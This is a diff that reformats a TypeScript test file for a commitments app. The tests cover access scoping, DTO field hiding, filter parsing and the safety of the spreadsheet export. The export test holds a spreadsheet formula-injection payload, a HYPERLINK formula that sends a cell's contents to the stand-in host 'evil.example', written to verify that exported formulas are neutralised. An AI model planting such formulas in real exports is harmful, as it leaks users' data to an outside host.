@@ -24,7 +24,8 @@ beforeAll(async () => {
 });
 
 const query = (q: Record<string, unknown>) => commitmentListQuery.parse(q);
-const names = async (viewer: Viewer, year: number) => (await listCommitments(viewer, query({ year }))).rows.map((r) => r.memberName).sort();
+const names = async (viewer: Viewer, year: number) =>
+  (await listCommitments(viewer, query({ year }))).rows.map((r) => r.memberName).sort();
 
 describe("who sees which commitments (scope, SECURITY.md #3, #4, #5, #26)", () => {
   const year = Y - 5;
@@ -50,7 +51,8 @@ describe("who sees which commitments (scope, SECURITY.md #3, #4, #5, #26)", () =
     const own = await getCommitment(member, rows.a1.id);
     expect(own.isOwn).toBe(true);
     // A DTO: no ids of accounts or tenants, no reviewer's account (SECURITY.md #7).
-    for (const key of ["member", "memberId", "khoiId", "reviewedById", "userId", "pledges", "pillars"]) expect(own).not.toHaveProperty(key);
+    for (const key of ["member", "memberId", "khoiId", "reviewedById", "userId", "pledges", "pillars"])
+      expect(own).not.toHaveProperty(key);
     await expect(getCommitment(member, rows.a2.id)).rejects.toMatchObject(notFound);
   });
 
@@ -98,7 +100,15 @@ describe("who sees which commitments (scope, SECURITY.md #3, #4, #5, #26)", () =
     expect((await listCommitments(staff, query({ year, status: "CONFIRMED" }))).total).toBe(0);
     expect((await listCommitments(staff, query({ year, assessment: "NONE" }))).total).toBe(0);
     // Bad filter values fall back to no filter instead of failing the page.
-    expect(query({ year: "abc", status: "DELETED", chiDoan: "x", page: "-3" })).toEqual({ year: undefined, status: undefined, assessment: undefined, chiDoan: undefined, coSo: undefined, q: "", page: 1 });
+    expect(query({ year: "abc", status: "DELETED", chiDoan: "x", page: "-3" })).toEqual({
+      year: undefined,
+      status: undefined,
+      assessment: undefined,
+      chiDoan: undefined,
+      coSo: undefined,
+      q: "",
+      page: 1,
+    });
   });
 });
 
@@ -128,7 +138,13 @@ describe("the .xlsx export", () => {
   it("writes one row per member with the pledges under each pillar, and neutralises formulas (SECURITY.md #20)", async () => {
     const year = Y - 7;
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
-    await makeCommitment(a.members.a2, { year, pledges: [evil, "+1+1", "@SUM(A1)"], status: "CONFIRMED", assessmentStatus: "CONFIRMED", rating: "EXCELLENT" });
+    await makeCommitment(a.members.a2, {
+      year,
+      pledges: [evil, "+1+1", "@SUM(A1)"],
+      status: "CONFIRMED",
+      assessmentStatus: "CONFIRMED",
+      rating: "EXCELLENT",
+    });
     await makeCommitment(b.members.a1, { year });
     const buffer = await exportCommitments(await viewerOf(a.users.coSo.id), query({ year }));
     const wb = new ExcelJS.Workbook();
